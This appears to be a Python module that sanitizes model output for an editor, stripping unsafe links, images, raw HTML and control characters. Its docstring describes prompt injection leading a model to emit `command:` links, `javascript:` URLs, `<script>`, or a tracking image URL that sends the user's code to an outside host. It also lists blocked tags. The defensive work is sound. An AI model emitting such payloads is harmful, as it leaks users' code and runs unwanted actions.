"""Model output made safe and tidy before it reaches the editor. Pure functions: no I/O.

`clean_output(text)` trims leading chatter ("Sure! Here's the explanation:"), unwraps an answer
wrapped whole in a ```markdown fence, closes code fences left open, removes links whose target
is not http(s) (keeping their text), images, and raw HTML that could run or load anything,
collapses runs of blank lines, strips trailing spaces and caps the length at a paragraph or
line boundary with a note saying how much was cut. `footer(model, fallbacks)` is the line that
says which model answered.

Why it is strict: model output is untrusted. A prompt injected through the code or the
diagnostic being explained can make a model emit `command:` links, `javascript:` URLs, tracking
images (`![](https://host/?q=<your code>)` loads by itself) or `<script>`. Editors guard too
(VS Code renders hovers untrusted), but not every client does.

How it reads Markdown: as CommonMark, markdown-it and marked do where safety depends on it, and
where they could differ it cleans rather than spares, or rewrites the text so that they cannot.
- Code is left verbatim only where it is certainly code: fenced blocks and one-line code spans.
  A fence counts when its opener is indented at most 3 columns past the list item holding it,
  has no tab before it, and is no table header (markdown-it reads `x|` over `---` as one). It
  ends at its closing fence, written out again at the opener's indent so that every renderer
  agrees; after a list it also ends at a line indented less than its opener (the item is over),
  and is closed there; a fence-like line that is no fence here gets a backslash before its
  fence, so that it is none for any renderer either. A code span counts only on one line,
  outside raw HTML, and without `|` in a paragraph with a table rule (a table row splits at
  `|` first). Backticks that a renderer could pair otherwise (across lines, in a table row,
  inside a bare URL or right after a tilde, both text for marked, in raw HTML) are escaped
  (`\\``) when anything later could close them, so no renderer can make code of cleaned text
  or text of kept code. Indented code blocks are read as prose.
- After a line that starts with `<` and a letter, the rest of its paragraph is raw HTML, as for
  a renderer: no code spans there, and `\\<` escapes nothing (nor in a bare URL, for marked).
- Links: `[text](target)` keeps only `text` unless the target starts with http:// or https://
  (relative targets go too); if the target does not even parse, the brackets go, so no lenient
  renderer can make a link of it, and a `](` with no `[` before it is escaped. Autolinks other
  than http(s) (`<command:...>`, `<mailto:...>`, `<a@b.c>`) are removed. Reference definitions
  with such a target are escaped (`\\[ref]: command:x`), so `[text][ref]` stays text. Images
  are replaced by their alt text (`![alt][ref]` is escaped): an image loads without a click.
- HTML: tags that can run, load, embed or link anything (`script`, `iframe`, `img`, `a`, `svg`,
  `form`, `pre`, ...) are dropped, their text kept (a `script` or `style` element on one line
  goes whole); a short list of formatting tags (`b`, `kbd`, `sub`, `details`, ...) stays, minus
  attributes. Comments, declarations and processing instructions are dropped. Any other `<`
  followed by a letter, `/`, `!` or `?` is shown as text (`&lt;`): the `<String>` of
  `Vec<String>` outside backticks, and what a browser might still read as a tag (`<img/src=x`,
  a tag that goes on over the next line).
- Leading chatter goes only as whole sentences at the very start, and only when what follows
  starts a new sentence or line: "Sure! The variable..." loses "Sure!", but "Sure enough, the
  variable...", "Certainly, the variable..." and "Here's the fix:" stay. "As an AI language
  model, I can't run code." goes whole; "As an AI language model, the error..." loses only
  the opening clause. An answer that is nothing but chatter is kept.
- Blank lines: runs outside fences become one blank line; inside a fence they are code.
- Terminal control sequences, other control characters and bidirectional overrides are removed.

Cleaning is repeated until nothing changes, so `clean_output` is idempotent and its result
contains nothing its own reading would still clean.
"""

from __future__ import annotations

import bisect
import re
import string
from dataclasses import dataclass

MAX_CHARS = 6000
MIN_CHARS = 100  # room for the shortening note and some of the answer
_PASSES = 8
_SETTLE_PASSES = 40
_INPUT_FACTOR = 8  # input beyond max(8 * max_chars, 50_000) is cut before cleaning
_INPUT_FLOOR = 50_000

# --- normalising ---------------------------------------------------------------------------

_CONTROL = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI sequences (colours, cursor moves)
    r"|\x1b\][^\x07\x1b\n]*(?:\x07|\x1b\\)?"  # OSC sequences (titles, hyperlinks)
    r"|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
)
_LEADING_BLANKS = re.compile(r"\A(?:[ \t]*\n)+")


def _normalise(text: str) -> str:
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return _CONTROL.sub("", text)


def _indent(line: str) -> int:
    """Columns of leading whitespace, tabs to multiples of 4 as CommonMark counts them."""
    col = 0
    for ch in line:
        if ch == " ":
            col += 1
        elif ch == "\t":
            col += 4 - col % 4
        else:
            break
    return col


def _width(prefix: str) -> int:
    return len(prefix.expandtabs(4))


# --- leading chatter -----------------------------------------------------------------------


def _phrase(pattern: str) -> str:
    """Write patterns with plain spaces and apostrophes; match any blanks and ' or ’."""
    return pattern.replace(" ", r"[ \t]+").replace("'", "['’]")


_INTERJECTION = _phrase(
    r"(?:sure(?: thing)?|certainly|of course|absolutely|definitely|okay|ok|alright|all right"
    r"|no problem|gladly|great|perfect|hello|hi|hey(?: there)?)"
)
_PRAISE = _phrase(
    r"(?:(?:that's |that is |what )?(?:a |an )?(?:great|good|excellent|nice|interesting|fair)"
    r" question|thanks? (?:you )?for (?:asking|the question|sharing(?: (?:this|that|the error"
    r"|the code))?))"
)
_HELP = _phrase(
    r"(?:(?:i'd |i would |i'm |i am )?(?:be )?(?:happy|glad|delighted) to (?:help|explain|assist)"
    r"|i can (?:help|explain)|i'll (?:help|explain))(?:[^\n.!?:]{0,60})"
)
_NOUN = r"(?:explanation|breakdown|answer|summary|overview|analysis|rundown|walk-?through)"
_ADJECTIVE = r"(?:quick|brief|short|detailed|simple|clear|concise|step-by-step|full|complete)"
_LEAD_IN = _phrase(
    r"(?:(?:here's|here is|here are|below is|the following is) (?:(?:a|an|the|my) )?"
    rf"(?:{_ADJECTIVE} )*{_NOUN}(?: (?:of|for) [^\n.!?:]{{1,80}})?"
    r"|here's what's (?:going on|happening)(?:[^\n.!?:]{0,60})"
    r"|here is what is (?:going on|happening)(?:[^\n.!?:]{0,60})"
    r"|let(?: me|'s| us) (?:explain|break (?:it|this|that) down|take a look|look at (?:it|this"
    r"|the error)|walk (?:you )?through (?:it|this))(?:[^\n.!?:]{0,60})"
    r"|i'll (?:break (?:it|this) down)(?:[^\n.!?:]{0,60}))"
)
_SEPARATOR = r"[ \t]*(?:[,!.]+|—|–|-)[ \t]*"
# A chatter sentence ends its line, or ends with punctuation before a new sentence; one that
# goes on in lower case ("Sure, the variable...") is content.
_END = r"(?P<end>[ \t]*[.!:…]+(?=[ \t]+(?-i:[^a-z\s]))|[ \t]*[.!:…]*[ \t]*(?=\n))"
_CHATTER = re.compile(
    rf"(?:{_INTERJECTION}(?:{_SEPARATOR}(?:{_LEAD_IN}|{_HELP}|{_PRAISE}))?"
    rf"|{_LEAD_IN}|{_HELP}|{_PRAISE}){_END}",
    re.IGNORECASE,
)
_AI_CLAUSE = re.compile(
    _phrase(r"as an ai(?: language model| model| assistant)?") + r"[ \t]*,[ \t]*", re.IGNORECASE
)
_AI_SELF = _phrase(
    r"(?:i (?:can't|cannot|can not|don't|do not|have no|won't)|i'm (?:not|unable)"
    r"|i am (?:not|unable))\b"
)
_AI_SELF_START = re.compile(_AI_SELF, re.IGNORECASE)
_AI_SELF_SENTENCE = re.compile(_AI_SELF + r"[^\n.!?]*" + _END, re.IGNORECASE)


def _drop_chatter(text: str) -> str:
    """Text without its first sentence if that is chatter (see the module docstring)."""
    match = _CHATTER.match(text)
    if match and text[match.end():].strip():
        return text[match.end():].lstrip(" \t")
    ai = _AI_CLAUSE.match(text)
    if ai is None:
        return text
    rest = text[ai.end():]
    if not rest.strip():
        return text
    if _AI_SELF_START.match(rest):  # "As an AI language model, I can't run code." says nothing
        sentence = _AI_SELF_SENTENCE.match(rest)
        after = rest[sentence.end():] if sentence else ""
        return after.lstrip(" \t") if after.strip() else text
    return rest[:1].upper() + rest[1:]


_MD_OPEN = re.compile(r" {0,3}(?P<fence>`{3,}|~{3,})[ \t]*(?:markdown|md)[ \t]*", re.IGNORECASE)
_CLOSE = re.compile(r"[ \t]*(?P<fence>`{3,}|~{3,})[ \t]*")
# What marked also takes for a closing fence: the fence, then any backticks and tildes.
_LOOSE_CLOSE = re.compile(r"[ \t]*(?P<fence>`{3,}|~{3,})[`~]*[ \t]*")


def _unwrap(text: str) -> str:
    """The inside of an answer wrapped whole in one ```markdown fence, when it is balanced."""
    lines = _trim_blank_edges(text.split("\n"))
    if len(lines) < 2:
        return text
    opener = _MD_OPEN.fullmatch(lines[0])
    closer = _CLOSE.fullmatch(lines[-1])
    if opener is None or closer is None:
        return text
    fence, end = opener.group("fence"), closer.group("fence")
    if end[0] != fence[0] or len(end) < len(fence):
        return text
    inner = lines[1:-1]
    blocks = _parse(inner)
    if blocks and isinstance(blocks[-1], _Fence) and blocks[-1].at_eof:
        return text  # the inner fences do not pair up: the outer fence is not a wrapper
    return "\n".join(inner)


def _strip_preamble(text: str) -> str:
    for _ in range(_PASSES):
        text = _LEADING_BLANKS.sub("", text)
        new = _unwrap(_drop_chatter(text))
        if new == text:
            break
        text = new
    return text


# --- blocks: prose and fences --------------------------------------------------------------

_FENCE = re.compile(r"(?P<fence>`{3,}|~{3,})(?P<info>.*)")
_ITEM = re.compile(
    r"(?P<lead>[ \t]*)(?P<marker>[-+*]|(?P<num>\d{1,9})[.)])(?:(?P<gap>[ \t]+)(?P<rest>\S.*)"
    r"|[ \t]*)"
)
_BREAK = re.compile(r"[ \t]*([-*_])(?:[ \t]*\1){2,}[ \t]*")
_CONTAINER = r"(?:[ \t>]|(?:[-+*]|\d{1,9}[.)])(?=[ \t]))*"
_HTML_LINE = re.compile(_CONTAINER + r"<[A-Za-z/!?]")
_FENCE_LIKE = re.compile(rf"^(?P<lead>{_CONTAINER})(?P<fence>`{{3}}|~{{3}})")


@dataclass
class _Prose:
    lines: list[str]
    raw: list[bool]  # inside raw HTML: no Markdown is read there


@dataclass
class _Fence:
    opener: str
    body: list[str]
    closer: str | None
    indent: int
    marker: str
    at_eof: bool  # still open when the text ended

    def closing(self) -> str:
        return " " * self.indent + self.marker


def _fence_at(text: str) -> tuple[str, int] | None:
    match = _FENCE.fullmatch(text)
    if match is None:
        return None
    fence = match.group("fence")
    if fence[0] == "`" and "`" in match.group("info"):
        return None
    return fence[0], len(fence)


def _pop(stack: list[int], indent: int) -> None:
    while stack and stack[-1] > indent:
        stack.pop()


def _read_fence(
    lines: list[str], i: int, indent: int, fence: tuple[str, int], dedent: bool
) -> tuple[_Fence, int]:
    """The fence opened on lines[i], and the index of the line after it."""
    char, length = fence
    body: list[str] = []
    j = i + 1
    while j < len(lines):
        line = lines[j]
        end = _LOOSE_CLOSE.fullmatch(line)
        if end and end.group("fence")[0] == char and len(end.group("fence")) >= length \
                and _indent(line) < indent + 4:
            return _Fence(lines[i], body, line, indent, char * length, False), j + 1
        if dedent and line.strip() and _indent(line) < indent:
            # Its list item is over, for CommonMark or for a renderer that reads the list
            # differently: either way the fence is closed before this line.
            return _Fence(lines[i], body, None, indent, char * length, False), j
        body.append(line)
        j += 1
    return _Fence(lines[i], body, None, indent, char * length, True), j


def _parse(lines: list[str]) -> list[_Prose | _Fence]:
    """Fences and the prose between them, read as CommonMark and markdown-it would, but
    seeing a fence only where they surely do (see the module docstring)."""
    blocks: list[_Prose | _Fence] = []
    prose = _Prose([], [])
    stack: list[int] = []  # content columns of the open list items
    in_list = False  # a list item since the last line that surely ended every list
    in_paragraph = in_html = False
    i = 0
    while i < len(lines):
        line = lines[i]
        if not line.strip():
            prose.lines.append(line)
            prose.raw.append(False)
            in_paragraph = in_html = False
            i += 1
            continue
        indent = _indent(line)
        opened: tuple[int, tuple[str, int]] | None = None  # its indent, (char, length)
        item = _ITEM.fullmatch(line)
        # markdown-it reads a table header before any fence: no fence on such a line.
        header = "|" in line and i + 1 < len(lines) and "-" in lines[i + 1] \
            and _TABLE_RULE.fullmatch(lines[i + 1]) is not None
        # Tabs before a fence are read differently by different renderers: no fence then.
        lead_ws = line[:len(line) - len(line.lstrip(" \t"))]
        fence = None if in_html or header or "\t" in lead_ws else _fence_at(line.lstrip(" "))
        if fence is not None:
            _pop(stack, indent)
            if indent - (stack[-1] if stack else 0) <= 3:
                opened = (indent, fence)
        elif item is not None and not _BREAK.fullmatch(line) and in_html:
            in_list = True  # no list item in raw HTML for CommonMark, but maybe for others
            _pop(stack, indent)
        elif item is not None and not _BREAK.fullmatch(line):
            in_list = True
            lead = _width(item.group("lead"))
            had_items = bool(stack)
            _pop(stack, lead)
            base = stack[-1] if stack else 0
            gap_text, rest = item.group("gap") or "", item.group("rest") or ""
            # An ordered item that interrupts a paragraph must start at 1, and an empty one
            # cannot (CommonMark); tabs are read differently by different renderers.
            if lead - base <= 3 and rest and "\t" not in item.group("lead") + gap_text \
                    and (not in_paragraph or had_items or item.group("num") in (None, "1")):
                before = item.group("lead") + item.group("marker")
                gap = _width(before + gap_text) - _width(before)
                stack.append(_width(before) + (gap if gap <= 4 else 1))
                inner = None if header or gap > 4 else _fence_at(rest)  # 5 blanks: code
                if inner is not None:
                    opened = (stack[-1], inner)
        else:
            _pop(stack, indent)
            if indent == 0 and not in_paragraph:  # no lazy continuation: every list is over
                in_list = False
        if opened is not None:
            if prose.lines:
                blocks.append(prose)
                prose = _Prose([], [])
            block, i = _read_fence(lines, i, opened[0], opened[1], dedent=in_list)
            blocks.append(block)
            in_paragraph = in_html = False
            continue
        if _HTML_LINE.match(line):
            in_html = True
        prose.lines.append(line)
        prose.raw.append(in_html)
        in_paragraph = True
        i += 1
    if prose.lines:
        blocks.append(prose)
    return blocks


# --- inline: links, images, HTML -----------------------------------------------------------

_PUNCT = frozenset(string.punctuation)
_PLAIN = re.compile(r"[^\\`<!\[\]]+")
_TICKS = re.compile(r"`+")
_NAME = r"[A-Za-z][A-Za-z0-9-]*"
_ATTR_NAME = r"[A-Za-z_:][A-Za-z0-9_.:-]*"
_VALUE = r"(?:[^\s\"'=<>`]+|'[^'\n]*'|\"[^\"\n]*\")"
_ATTR = rf"(?:[ \t]+{_ATTR_NAME}(?:[ \t]*=[ \t]*{_VALUE})?)"
_OPEN_TAG = re.compile(rf"<(?P<name>{_NAME})(?P<attrs>{_ATTR}*)[ \t]*/?>")
_CLOSE_TAG = re.compile(rf"</(?P<name>{_NAME})[ \t]*>")
# Comments, CDATA, processing instructions, declarations: (opener, closer), longest first.
_OTHER_HTML = (("<!--", "-->"), ("<![CDATA[", "]]>"), ("<?", "?>"), ("<!", ">"))
_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")
_EMAIL = re.compile(
    r"<[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)*>"
)
_BARE_URL = re.compile(r"(?:[Hh][Tt][Tt][Pp][Ss]?://|[Ww][Ww][Ww]\.)[^\s<]*")
_LOOSE_TARGET = re.compile(r"\(\s*<?\s*(?P<target>[^\s)>]*)")
_DEFINED_TARGET = re.compile(r"<?(?P<target>[^\s<>]*)")
_HTTP = re.compile(r"https?://\S", re.IGNORECASE)
_LINE_START = re.compile(_CONTAINER)
_TABLE_RULE = re.compile(r"[ \t>]*\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*")
_ASCII_LOWER = str.maketrans(string.ascii_uppercase, string.ascii_lowercase)

_SAFE_TAGS = frozenset(
    "b i em strong code kbd samp var sub sup br hr p ul ol li dl dt dd blockquote table thead "
    "tbody tfoot tr th td caption details summary del s ins mark small u abbr span div h1 h2 h3 "
    "h4 h5 h6 wbr cite q dfn tt".split()
)
_DROP_WHOLE = frozenset(
    "script style textarea xmp noscript template title noembed noframes".split()
)
_DROP_TAGS = _DROP_WHOLE | frozenset(
    "a img image iframe frame frameset object embed applet video audio source track picture svg "
    "math link meta base form input button select option optgroup label portal body html head "
    "area map canvas dialog marquee pre font center param slot plaintext fencedframe".split()
)


def _is_http(target: str) -> bool:
    return bool(_HTTP.match(target.strip().strip("<>")))


def _skip_blank(text: str, k: int) -> int:
    """Past spaces and tabs and at most one line break (inside a paragraph)."""
    n = len(text)
    while k < n and text[k] in " \t":
        k += 1
    if k < n and text[k] == "\n":
        k += 1
        while k < n and text[k] in " \t":
            k += 1
    return k


def _link_tail(text: str, k: int) -> tuple[str, int] | None:
    """The destination of an inline link whose `(` is at k, and the index past its `)`."""
    n = len(text)
    k = _skip_blank(text, k + 1)
    if k < n and text[k] == "<":
        e = k + 1
        while e < n and text[e] not in "<>\n":
            e += 2 if text[e] == "\\" else 1
        if e >= n or text[e] != ">":
            return None
        dest, k = text[k:e + 1], e + 1
    else:
        depth, e = 0, k
        while e < n:
            ch = text[e]
            if ch == "\\" and e + 1 < n and text[e + 1] in _PUNCT:
                e += 2
                continue
            if ch <= " " or ch == "\x7f":
                break
            if ch == "(":
                depth += 1
                if depth > 32:  # renderers give up there too; keeps this linear
                    return None
            elif ch == ")":
                if depth == 0:
                    break
                depth -= 1
            e += 1
        if depth:
            return None
        dest, k = text[k:e], e
    after = _skip_blank(text, k)
    if after > k and after < n and text[after] in "\"'(":
        close = ")" if text[after] == "(" else text[after]
        e = after + 1
        while e < n and text[e] != close:
            if text[e] == "(" and close == ")":
                return None
            e += 2 if text[e] == "\\" else 1
        if e >= n:
            return None
        after = _skip_blank(text, e + 1)
    if after < n and text[after] == ")":
        return dest, after + 1
    return None


class _Scanner:
    """One paragraph, left to right, read the way CommonMark reads inlines where safety depends
    on it: code spans, raw HTML and autolinks by leftmost start, links by the nearest `[`.

    Backticks end up in a code span kept verbatim (opener and closer on one line, as
    CommonMark pairs them), or escaped (`\\``) when something later could close them, so that
    no renderer can pair them another way and turn text this scanner cleaned into code, or
    code it kept into text."""

    def __init__(self, text: str, raw: list[bool]) -> None:
        self.text = text
        self.lower = text.translate(_ASCII_LOWER)  # same length as text, unlike str.lower()
        self.raw = raw
        self.starts = [0] + [m.end() for m in re.finditer("\n", text)]
        self.table = any(_TABLE_RULE.fullmatch(line) for line in text.split("\n"))
        self.pipes = [m.start() for m in re.finditer(r"\|", text)] if self.table else []
        self.runs: dict[int, list[int]] = {}  # backtick runs by length: where each starts
        for run in _TICKS.finditer(text):
            self.runs.setdefault(run.end() - run.start(), []).append(run.start())
        self.no_code_until = 0  # a kept link's target: its backticks are not code
        # Bare URLs, which GFM renderers may make links of: marked takes backticks and
        # backslashes in them for part of the URL, not for code or escapes.
        self.urls = [(m.start(), m.end()) for m in _BARE_URL.finditer(text)]
        self.last: dict[tuple[int, str], int] = {}
        self.out: list[str] = []  # pieces, never empty
        self.openers: list[tuple[int, int, bool]] = []  # index in out, index in text, image?

    def line_of(self, i: int) -> int:
        return bisect.bisect_right(self.starts, i) - 1

    def in_url(self, i: int) -> bool:
        at = bisect.bisect_right(self.urls, (i, len(self.text))) - 1
        return at >= 0 and self.urls[at][0] <= i < self.urls[at][1]

    def line_end(self, number: int) -> int:
        nxt = number + 1
        return self.starts[nxt] - 1 if nxt < len(self.starts) else len(self.text)

    def run(self) -> str:
        text, out, n = self.text, self.out, len(self.text)
        i = 0
        while i < n:
            plain = _PLAIN.match(text, i)
            if plain:
                out.append(plain.group(0))
                i = plain.end()
                continue
            ch = text[i]
            number = self.line_of(i)
            if ch == "\\":
                # In raw HTML or a bare URL, a backslash may escape nothing: `\<script>` is
                # still a tag there.
                nxt = text[i + 1:i + 2]
                literal = nxt == "<" and (self.raw[number] or self.in_url(i))
                step = 2 if nxt in _PUNCT and not literal else 1
                out.append(text[i:i + step])
                i += step
            elif ch == "`":
                i = self.backticks(i, number)
            elif ch == "<":
                piece, i = self.angle(i, number)
                if piece:
                    out.append(piece)
                elif text.startswith(" ", i) and (out[-1][-1] if out else "\n") in " \n":
                    i += 1  # "a <script></script> b" -> "a b", not "a  b"
            elif ch == "!" and text.startswith("[", i + 1):
                self.openers.append((len(out), i, True))
                out.append("![")
                i += 2
            elif ch == "[":
                self.openers.append((len(out), i, False))
                out.append("[")
                i += 1
            elif ch == "]":
                i = self.close_bracket(i)
            else:
                out.append(ch)
                i += 1
        return "".join(out)

    def backticks(self, i: int, number: int) -> int:
        """A code span is kept verbatim only where it is certainly one: opener and closer on
        one line, outside raw HTML and a kept link's target, and without `|` in a table. Its
        closer is the next run of equal length anywhere in the paragraph, as in CommonMark."""
        text = self.text
        stop = i
        while stop < len(text) and text[stop] == "`":
            stop += 1
        same_length = self.runs.get(stop - i, [])
        at = bisect.bisect_left(same_length, stop)
        if at == len(same_length):  # nothing later can close it: plain backticks anywhere
            self.out.append(text[i:stop])
            return stop
        closer = same_length[at]
        pipe = bisect.bisect_left(self.pipes, stop)
        has_pipe = pipe < len(self.pipes) and self.pipes[pipe] < closer
        # marked reads backticks right after a tilde as text (GFM strikethrough runs).
        if self.raw[number] or i < self.no_code_until or has_pipe or self.in_url(i) \
                or text[i - 1:i] == "~" or self.line_of(closer) != number:
            self.out.append("\\`" * (stop - i))  # no renderer may pair it with anything
            return stop
        end = closer + stop - i
        self.out.append(text[i:end])
        return end

    def find(self, needle: str, begin: int, end: int) -> int:
        """Where needle (lower case) occurs in text[begin:end] ignoring ASCII case, or -1.

        Knowing where it last occurs on the line keeps many unclosed `<!--` linear."""
        key = (end, needle)
        if key not in self.last:
            self.last[key] = self.lower.rfind(needle, self.starts[self.line_of(begin)], end)
        if self.last[key] < begin:
            return -1
        return self.lower.find(needle, begin, end)

    def angle(self, i: int, number: int) -> tuple[str, int]:
        """What a `<` at i and what follows it become, and where scanning goes on."""
        text, eol = self.text, self.line_end(number)
        for pattern in (_AUTOLINK, _EMAIL):
            match = pattern.match(text, i, eol)
            if match:
                if pattern is _AUTOLINK and _is_http(match.group("url")):
                    # In raw HTML it is no link but an odd tag: show it as text there.
                    return ("&lt;", i + 1) if self.raw[number] else (match.group(0), match.end())
                return "", match.end()
        for opener, closer in _OTHER_HTML:
            if text.startswith(opener, i) and (opener != "<!" or text[i + 2:i + 3].isalpha()):
                end = self.find(closer, i + len(opener), eol)
                if end >= 0:
                    return "", end + len(closer)
                break
        closing = _CLOSE_TAG.match(text, i, eol)
        opening = None if closing else _OPEN_TAG.match(text, i, eol)
        tag = closing or opening
        if tag is None:
            # Not a whole tag on this line, but a browser may still read one (`<img/src=x`,
            # or a tag that goes on over the next line): whatever could start one is text.
            nxt = text[i + 1:i + 2]
            starts_tag = nxt in ("/", "!", "?") or (nxt.isascii() and nxt.isalpha())
            return ("&lt;" if starts_tag else "<"), i + 1
        name = tag.group("name").lower()
        if name in _SAFE_TAGS:
            if opening is not None and opening.group("attrs").strip():
                return f"<{tag.group('name')}>", tag.end()
            return tag.group(0), tag.end()
        if name not in _DROP_TAGS:
            return "&lt;", i + 1  # not HTML we know: show it as text (Vec<String>)
        if opening is not None and name in _DROP_WHOLE:  # <script>...</script> goes whole
            at = self.find(f"</{name}", tag.end(), eol)
            end_tag = _CLOSE_TAG.match(text, at, eol) if at >= 0 else None
            if end_tag and end_tag.group("name").lower() == name:
                return "", end_tag.end()
        return "", tag.end()

    def keep_text(self, at: int) -> None:
        """Replace the opener at out[at] and what follows it by the link's text alone."""
        inner = "".join(self.out[at + 1:])
        del self.out[at:]
        if inner:
            self.out.append(inner)

    def close_bracket(self, i: int) -> int:
        text, out = self.text, self.out
        opener = self.openers.pop() if self.openers else None
        if text.startswith("(", i + 1):
            tail = _link_tail(text, i + 1)
            if tail is not None:
                dest, end = tail
            else:  # not a link here, but maybe for a lenient renderer
                loose = _LOOSE_TARGET.match(text, i + 1)
                dest, end = (loose.group("target") if loose else ""), i + 1
            if opener is not None and (opener[2] or not _is_http(dest)):
                self.keep_text(opener[0])  # the text stays, the target goes
                return end
            if opener is None:
                out.append("\\]")  # a `[` this scanner did not see must not make a link
                return i + 1
            self.no_code_until = max(self.no_code_until, end)
            out.append("]")
            return i + 1
        if opener is None:
            out.append("]")
            return i + 1
        at, start, image = opener
        if text.startswith(":", i + 1) and self.at_line_start(start):
            target = _DEFINED_TARGET.match(text, _skip_blank(text, i + 2))
            if target is None or not _is_http(target.group("target")):
                out[at] = "\\" + out[at]  # `[ref]: command:x` defines no link
        elif image:
            out[at] = "\\!["  # `![alt][ref]` must not load: keep it a plain `[alt][ref]`
        out.append("]")
        return i + 1

    def at_line_start(self, i: int) -> bool:
        """Whether only blanks and list or quote markers come before i on its line."""
        return _LINE_START.fullmatch(self.text, self.starts[self.line_of(i)], i) is not None


def _clean_paragraph(lines: list[str], raw: list[bool]) -> list[str]:
    # A line that looks like a fence but is none here must be none for any renderer either,
    # or it would pair with the fences after it differently: `\```` opens nothing.
    lines = [_FENCE_LIKE.sub(r"\g<lead>\\\g<fence>", line, count=1) for line in lines]
    return _Scanner("\n".join(lines), raw).run().split("\n")


def _clean_prose(block: _Prose) -> list[str]:
    cleaned: list[str] = []
    paragraph: list[str] = []
    raw: list[bool] = []
    for line, in_raw in zip(block.lines, block.raw, strict=True):
        if line.strip():
            paragraph.append(line)
            raw.append(in_raw)
            continue
        if paragraph:
            cleaned.extend(_clean_paragraph(paragraph, raw))
            paragraph, raw = [], []
        cleaned.append("")
    if paragraph:
        cleaned.extend(_clean_paragraph(paragraph, raw))
    out: list[str] = []
    for line in cleaned:
        line = line.rstrip()
        if line or not out or out[-1]:
            out.append(line)
    return out


def _clean_fence(block: _Fence) -> list[str]:
    body = [line.rstrip() for line in block.body]
    if block.closer is None:  # closed by the end of the text or of its list item
        body = _trim_blank_edges(body, leading=False)
    # The closing line is written out in full at the opener's indent, so that every renderer
    # agrees on where the code stops, whatever list item it reads the fence in.
    return [block.opener.rstrip(), *body, block.closing()]


def _trim_blank_edges(lines: list[str], leading: bool = True) -> list[str]:
    start, end = 0, len(lines)
    while leading and start < end and not lines[start].strip():
        start += 1
    while end > start and not lines[end - 1].strip():
        end -= 1
    return lines[start:end]


# --- the whole ------------------------------------------------------------------------------


def _clean_once(text: str) -> str:
    text = _strip_preamble(_normalise(text))
    out: list[str] = []
    for block in _parse(text.split("\n")):
        out.extend(_clean_prose(block) if isinstance(block, _Prose) else _clean_fence(block))
    return "\n".join(_trim_blank_edges(out))


def _settle(text: str) -> str:
    """Clean until nothing changes. Each pass undoes what the last one's removals put
    together (`<<script>script>`); text nested deeper than any answer is shown as code."""
    current = text
    for _ in range(_SETTLE_PASSES):
        new = _clean_once(current)
        if new == current:
            return new
        current = new
    return _inert(text)


def _inert(text: str) -> str:
    """Text as one code block that no line of it can close: shown, never rendered."""
    lines = _trim_blank_edges([line.rstrip() for line in _normalise(text).split("\n")])
    longest = max((len(run) for run in re.findall("~+", text)), default=0)
    fence = "~" * max(3, longest + 1)
    return "\n".join([fence, *lines, fence])


def _note(cut: int) -> str:
    return f"\n\n*(Answer shortened: {cut} character{'' if cut == 1 else 's'} cut.)*"


def _cut(text: str, room: int) -> str:
    """At most `room` characters of text, ending at a paragraph, line or word boundary."""
    if room <= 0:
        return ""
    if len(text) <= room:
        return text.rstrip()
    window = text[:room + 1]
    floor = room // 2
    for sep in ("\n\n", "\n", " "):
        at = window.rfind(sep)
        if at >= floor:
            return text[:at].rstrip()
    return text[:room].rstrip()


def _closing_for(kept: str) -> str:
    blocks = _parse(kept.split("\n"))
    last = blocks[-1] if blocks else None
    if isinstance(last, _Fence) and last.at_eof:
        return "\n" + last.closing()
    return ""


def _shorten(text: str, limit: int, dropped: int) -> str:
    total = len(text) + dropped
    room = limit - len(_note(total))
    while True:
        kept = _cut(text, room)
        out = kept + _closing_for(kept) + _note(total - len(kept))
        if len(out) <= limit or not kept:
            return out.lstrip("\n")
        room -= len(out) - limit


def clean_output(text: str, max_chars: int = MAX_CHARS) -> str:
    """Model output ready to show: see the module docstring for every rule."""
    if max_chars < MIN_CHARS:
        raise ValueError(f"max_chars must be at least {MIN_CHARS}, not {max_chars}")
    hard_limit = max(max_chars * _INPUT_FACTOR, _INPUT_FLOOR)
    dropped = max(len(text) - hard_limit, 0)  # far past the cap: never worth cleaning
    cleaned = _settle(text[:hard_limit])
    if len(cleaned) <= max_chars and not dropped:
        return cleaned
    limit = max_chars
    while True:  # cleaning the shortened text may lengthen it (`<` -> `&lt;`): retry shorter
        shortened = _settle(_shorten(cleaned, limit, dropped))
        if len(shortened) <= max_chars:
            return shortened
        limit -= len(shortened) - max_chars


# --- footer ---------------------------------------------------------------------------------


def _code(text: str) -> str:
    text = " ".join(text.split()) or "unknown"
    longest = max((len(run) for run in _TICKS.findall(text)), default=0)
    ticks = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{ticks}{pad}{text}{pad}{ticks}"


def _plain(text: str) -> str:
    text = " ".join(text.split())
    return "".join("\\" + ch if ch in "\\`*_[]<>&~|" else ch for ch in text)


def footer(model: str, fallbacks: list[tuple[str, str]]) -> str:
    """The line appended under an explanation: which model answered, after which failures.

    `fallbacks` are (model, short reason) for the models tried first, in order.
    """
    line = f"Explained by {_code(model)}"
    if fallbacks:
        tried = []
        for name, reason in fallbacks:
            why = _plain(reason)
            tried.append(f"{_code(name)} ({why})" if why else _code(name))
        line += " after " + ", ".join(tried)
    return f"\n\n---\n*{line}.*"
